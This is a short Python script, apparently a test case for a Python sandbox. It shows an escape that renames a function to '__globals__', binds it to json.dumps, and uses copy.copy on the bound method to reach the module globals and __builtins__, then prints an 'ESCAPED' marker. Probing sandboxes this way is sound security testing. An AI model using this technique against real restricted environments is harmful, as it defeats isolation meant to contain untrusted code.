"""copy.copy of a bound method is getattr(method.__self__, method.__name__), and the script can set that name."""
import copy
import json


def f(self):
    pass


f.__name__ = "__globals__"
found = copy.copy(f.__get__(json.dumps))
print("ESCAPED:copy_of_bound_method", found["__builtins__"])
